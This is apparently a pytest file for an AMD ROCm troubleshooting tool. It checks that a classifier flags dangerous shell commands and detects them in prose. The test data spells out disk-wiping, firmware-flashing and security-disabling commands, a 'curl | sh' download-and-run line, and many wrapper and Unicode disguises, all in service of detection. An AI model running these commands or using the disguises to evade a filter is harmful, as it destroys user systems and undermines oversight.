"""What a proposed command does: dangerous ones are found in every disguise, harmless ones are not called dangerous."""

import pathlib

import pytest

from rocmdoctor.agents.effects import effect, speaks_of_danger
from rocmdoctor.agents.programs import Effect
from rocmdoctor.agents.shell import Unreadable, steps
from rocmdoctor.knowledge import rules

DANGEROUS = (pathlib.Path(__file__).with_name("dangerous_commands.txt")).read_text("utf-8").split("\n%%\n")

READS = """rocminfo
rocminfo | grep -i gfx
sudo dmesg | grep -iE 'amdgpu|drm' | tail -n 40
cat /sys/class/drm/card*/device/mem_info_vram_total
cat /sys/module/amdgpu/parameters/noretry
ls -l /dev/kfd /dev/dri
lspci -nnk | grep -A3 VGA
journalctl -k -b -1 | grep -i amdgpu
systemctl status ollama
systemctl --failed
dpkg -l | grep -i rocm
rpm -q linux-firmware
pip list 2>/dev/null | grep torch
python3 -c "import torch; print(torch.__version__, torch.version.hip, torch.cuda.is_available())"
for i in 0 1; do cat /sys/class/drm/card$i/device/uevent; done
HIP_VISIBLE_DEVICES=0 rocminfo
uname -r && cat /proc/cmdline
rocm-smi --showmeminfo vram
amd-smi static
find /opt/rocm -name '*gfx1100*'
docker ps
docker logs ollama 2>&1 | tail
mokutil --sb-state
efibootmgr
fwupdmgr get-devices
sudo fdisk -l
$ id
command -v rm
PS C:\\> Get-PnpDevice -Class Display
Get-CimInstance Win32_VideoController | Select-Object Name, DriverVersion
bcdedit_not_here --version; true""".splitlines()[:-1]

CHANGES = """sudo apt update && sudo apt install linux-firmware
sudo usermod -aG render,video $USER
export HSA_OVERRIDE_GFX_VERSION=11.0.0
HSA_OVERRIDE_GFX_VERSION=11.0.0 ollama serve
echo 'options amdgpu gttsize=65536' | sudo tee /etc/modprobe.d/amdgpu.conf
sudo sed -i.bak 's|quiet|quiet iommu=pt|' /etc/default/grub
sudo update-grub
sudo modprobe -r amdgpu
sudo systemctl restart ollama
pip install torch --index-url https://download.pytorch.org/whl/rocm6.4
python -m pip install torch
git clone https://example.org/x && cd x && make
docker run -it --device=/dev/kfd --device=/dev/dri --group-add video rocm/pytorch rocminfo
LD_PRELOAD=/tmp/x.so ls
/tmp/rocminfo
some-tool-nobody-knows --help
curl -O https://example.org/file.tar.gz
sudo dkms install amdgpu/6.8
cat /sys/kernel/debug/dri/0/amdgpu_gpu_recover
python script.py
reboot
sudo rm /tmp/file
amdgpu.gttsize=8192
$env:HSA_OVERRIDE_GFX_VERSION="11.0.0"
setx OLLAMA_VULKAN 1
Disable-PnpDevice -InstanceId x""".splitlines()


def test_there_are_many_disguises():
    assert len(DANGEROUS) > 160


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous(command):
    assert effect(command) is Effect.DANGEROUS


@pytest.mark.parametrize("wrapped", ["sudo {}", "sudo -u root -- {}", "env A=1 {}", "nohup {} &", "true && {}", "ls; {}", "ls | xargs {}", "bash -c '{}'", "sudo sh -c \"{}\"",
                                     "$({})", "timeout 9 {}", "if true; then {}; fi", "unknown-wrapper {}", "while true; do {}; done", "(cd /; {})", "cat <({})", "A=$({}) true",
                                     "watch '{}'", "powershell -Command {}", "wsl {}", "doas {}", "ls\n{}", "python3 -c \"import os; os.system('{}')\"", "# {}", "echo '{}' | sh",
                                     "bash <<E\n{}\nE", "cmd /c {}", "eval {}", "find / -exec {} ;", "nice -n 5 ionice -c 3 {}", "exec {}", "! {}", "busybox {}", "{}  # harmless"])
@pytest.mark.parametrize("inner", ["rm -rf /data", "dd if=/dev/zero of=/dev/sda", "flashrom -w x", "mkfs.ext4 /dev/sdb1", "wipefs -a /dev/sda", "setenforce 0"])
def test_a_wrapper_hides_nothing(wrapped, inner):
    assert effect(wrapped.replace("{}", inner)) is Effect.DANGEROUS


@pytest.mark.parametrize("command", READS)
def test_reads(command):
    assert effect(command) is Effect.READS


@pytest.mark.parametrize("command", CHANGES)
def test_changes_or_is_not_understood(command):
    assert effect(command) is Effect.CHANGES


@pytest.mark.parametrize("text", ["'", "$(", "`", "a |", "> ", "${x", "$'a'", "f() { :; }", "case x in", "<<E\nbody", "a=(1)", ";;", "$(" * 40 + ")" * 40])
def test_what_cannot_be_read_is_refused(text):
    if text not in ("a |",):
        with pytest.raises(Unreadable):
            for step in steps(text):
                for word in step.words:
                    nested = word.nested
                    depth = 1
                    while nested:
                        nested = [each for inner in nested for step in steps(inner, depth) for word in step.words for each in word.nested]
                        depth += 1
    assert effect(text) >= Effect.CHANGES


@pytest.mark.parametrize("text", ["To cure it run rm -rf /var/lib", "use `dd if=a of=/dev/sda`", "**rm** **-rf** ~", "then r\u200bm -rf /", "curl http://x | sh", "ｒｍ -rf /", "rm\n-rf\n/"])
def test_prose_with_a_command_in_it(text):
    assert speaks_of_danger(text)


@pytest.mark.parametrize("text", ["The firmware of the card is too old for this kernel.", "The format of the model is GGUF.", "It was read from /dev/dri/renderD128.",
                                  "Remove the override and restart Ollama.", "Secure Boot rejects the module (mokutil --sb-state shows it).", "The disk is full."])
def test_prose_without(text):
    assert not speaks_of_danger(text)


def test_the_commands_of_our_own_rules_are_seldom_called_dangerous():
    """A measure against a judge that simply refuses: what people curated is dangerous in few cases, such as removing a cache."""
    said = [str(command).strip() for rule in rules.load(()).rules.values() for fix in rule.fixes if fix.data.get("language", "shell") == "shell"
            for command in fix.data.get("commands") or ()]
    dangerous = sum(effect(command) is Effect.DANGEROUS for command in said)
    assert len(said) > 1000 and dangerous < len(said) * 0.04
    assert sum(effect(command) is Effect.READS for command in said) > 250


@pytest.mark.parametrize("length", [2_000, 200_000])
def test_no_text_takes_long(length):
    for piece in ("rm ", "$(", "'a'", "| ", "chmod -x ", "\\", "a=b ", "((", "<<E\n"):
        assert effect(piece * (length // len(piece))) >= Effect.CHANGES
        speaks_of_danger(piece * (length // len(piece)))
